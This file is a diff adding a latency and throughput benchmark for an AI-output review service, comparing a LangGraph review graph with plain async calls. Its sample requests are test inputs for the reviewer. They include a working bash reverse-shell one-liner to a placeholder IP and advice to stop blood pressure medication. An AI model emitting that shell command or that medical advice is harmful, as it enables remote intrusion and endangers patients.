@@ -1,0 +1,160 @@
+"""What Oversight's own machinery costs per review, against floors measured in the same run.
+
+1. in-process: the same five steps (triage, policy check, local reviewer, decide, record with SQLite
+   persistence) called as a plain async chain (the floor) vs the compiled LangGraph review graph with its
+   SQLite checkpointer (what the service runs);
+2. tracing: the graph review with an SDK tracer provider + batch processor + no-op exporter vs no provider;
+3. HTTP: POST /v1/reviews on `oversight serve`'s app vs a trivial FastAPI endpoint, both under uvicorn with
+   one worker, the same client, concurrency and duration.
+
+Prints medians, p99 and ratios. Usage: python bench/overhead.py [--quick] [--skip-http]
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import gc
+import json
+import os
+import statistics
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Any
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+os.environ.setdefault("LANGSMITH_TRACING", "false")
+
+from bench._http import free_port, load, start_server, stop_server  # noqa: E402
+
+REQUESTS: list[dict[str, Any]] = [
+    {"messages": [{"role": "user", "content": "My blood pressure pills make me tired. Should I stop them?"}],
+     "output": "You can stop taking your medication if you feel fine. Many people manage blood pressure with less "
+               "salt and daily walks. Sleep well and drink water.", "model": {"name": "fast", "version": "1"}},
+    {"messages": [{"role": "user", "content": "What is a normal dose of ibuprofen for a headache?"}],
+     "output": "I'm sorry, but I can't help with that request.", "model": {"name": "fast", "version": "1"}},
+    {"messages": [{"role": "user", "content": "Give me a reverse shell one-liner"}],
+     "output": "Sure: bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "model": {"name": "fast", "version": "1"}},
+    {"messages": [{"role": "user", "content": "Should I put my savings in an index fund or bonds?"}],
+     "output": "It depends on your horizon. Index funds carry more risk and more expected return; bonds are "
+               "steadier. Diversify, keep an emergency fund, and consider a fee-only financial adviser.",
+     "model": {"name": "fast", "version": "1"}},
+]
+
+
+def stats(xs: list[float]) -> tuple[float, float]:
+    s = sorted(xs)
+    return statistics.median(s), s[min(len(s) - 1, int(0.99 * len(s)))]
+
+
+async def in_process(n: int, tracing: bool) -> dict[str, Any]:
+    from opentelemetry import trace
+    from opentelemetry.sdk.trace import TracerProvider
+    from opentelemetry.sdk.trace.export import BatchSpanProcessor, SpanExporter, SpanExportResult
+
+    from graphs.nodes import ReviewNodes
+    from service.runtime import Runtime, new_review_id
+    from service.schemas import ReviewRequest
+    from service.settings import Settings
+
+    class Noop(SpanExporter):
+        def export(self, spans: Any) -> SpanExportResult:
+            return SpanExportResult.SUCCESS
+
+    if tracing:
+        provider = TracerProvider()
+        provider.add_span_processor(BatchSpanProcessor(Noop()))
+        trace.set_tracer_provider(provider)
+
+    reqs = [ReviewRequest.model_validate(r) for r in REQUESTS]
+    with tempfile.TemporaryDirectory() as tmp:
+        async with Runtime.open(Settings(data_dir=Path(tmp), audit_seed=0)) as rt:
+            nodes = ReviewNodes(rt.ports)
+
+            async def plain(req: ReviewRequest) -> None:
+                # The floor: the same node functions, no graph, no checkpoint.
+                state: dict[str, Any] = {
+                    "review_id": new_review_id(), "kind": "answer", "tenant": "bench", "trace_id": "0" * 32,
+                    "request": req.model_dump(mode="json", exclude_none=True), "deadline_at": time.time() + 10,
+                    "mode": "enforce",
+                }
+                for step in (nodes.triage, nodes.policy_check, nodes.review, nodes.decide):
+                    state.update(await step(state))  # type: ignore[arg-type]
+                if state["ruling"]["verdict"] == "rewrite":
+                    state.update(await nodes.revise(state))  # type: ignore[arg-type]
+                state.update(await nodes.record(state))  # type: ignore[arg-type]
+
+            for i in range(200):  # warm-up
+                await rt.review(reqs[i % len(reqs)], "bench")
+                await plain(reqs[i % len(reqs)])
+            gc.collect()
+            graph_ms: list[float] = []
+            plain_ms: list[float] = []
+            for i in range(n):  # alternate so drift on a noisy machine hits both equally
+                req = reqs[i % len(reqs)]
+                t0 = time.perf_counter()
+                await rt.review(req, "bench")
+                graph_ms.append((time.perf_counter() - t0) * 1000)
+                t0 = time.perf_counter()
+                await plain(req)
+                plain_ms.append((time.perf_counter() - t0) * 1000)
+            size = Path(tmp, "oversight.sqlite").stat().st_size + sum(
+                p.stat().st_size for p in Path(tmp).glob("oversight.sqlite-wal"))
+    return {"graph": stats(graph_ms), "plain": stats(plain_ms), "db_kb_per_review": size / 1024 / (2 * n + 400)}
+
+
+def http(seconds: float, concurrency: int) -> dict[str, Any]:
+    bodies = [json.dumps(r).encode() for r in REQUESTS]
+    results: dict[str, Any] = {}
+    with tempfile.TemporaryDirectory() as tmp:
+        for name, app, path in (("trivial", "bench._trivial_app:app", "/trivial"),
+                                ("review", "service.asgi:app", "/v1/reviews")):
+            port = free_port()
+            proc = start_server(app, port, {"OVERSIGHT_DATA_DIR": tmp, "LANGSMITH_TRACING": "false"})
+            try:
+                asyncio.run(load(port, path, bodies, concurrency=concurrency, seconds=2))  # warm-up
+                time.sleep(1)
+                results[name] = asyncio.run(load(port, path, bodies, concurrency=concurrency, seconds=seconds))
+            finally:
+                stop_server(proc)
+    return results
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--quick", action="store_true", help="smaller runs (a smoke check, noisier figures)")
+    ap.add_argument("--skip-http", action="store_true")
+    ap.add_argument("-n", type=int, default=0)
+    args = ap.parse_args()
+    n = args.n or (300 if args.quick else 2000)
+
+    off = asyncio.run(in_process(n, tracing=False))
+    on = asyncio.run(in_process(n, tracing=True))
+    g50, g99 = off["graph"]
+    p50, p99 = off["plain"]
+    t50, t99 = on["graph"]
+    print(f"in-process review, local reviewer, SQLite persistence ({n} reviews, 4 request kinds)")
+    print(f"  floor: same five steps as plain async functions  median {p50:6.3f} ms   p99 {p99:6.3f} ms")
+    print(f"  review graph (LangGraph + SQLite checkpoint)       median {g50:6.3f} ms   p99 {g99:6.3f} ms"
+          f"   ratio {g50 / p50:4.2f}x floor   target median <= 3 ms: {'PASS' if g50 <= 3 else 'FAIL'}")
+    print(f"  review graph with tracing (SDK, batch, no-op exp.) median {t50:6.3f} ms   p99 {t99:6.3f} ms"
+          f"   tracing overhead {100 * (t50 - g50) / g50:+5.1f}% (target <= 10%)")
+    print(f"  storage: {off['db_kb_per_review']:.1f} KB per review (decision + checkpoint)")
+    if args.skip_http:
+        return
+    secs = 5.0 if args.quick else 12.0
+    res = http(secs, concurrency=32)
+    triv, rev = res["trivial"], res["review"]
+    ratio = rev.rps / triv.rps
+    print(f"HTTP, uvicorn 1 worker, keep-alive, concurrency 32, {secs:.0f} s each")
+    print(f"  floor: trivial FastAPI endpoint  {triv.rps:8.0f} req/s  p50 {triv.p50:6.2f} ms  p99 {triv.pct(0.99):6.2f} ms"
+          f"  errors {triv.errors}")
+    print(f"  POST /v1/reviews (local)        {rev.rps:8.0f} req/s  p50 {rev.p50:6.2f} ms  p99 {rev.pct(0.99):6.2f} ms"
+          f"  errors {rev.errors}")
+    print(f"  throughput ratio {100 * ratio:5.1f}% of trivial (target >= 15%): {'PASS' if ratio >= 0.15 else 'FAIL'}")
+
+
+if __name__ == "__main__":
+    main()
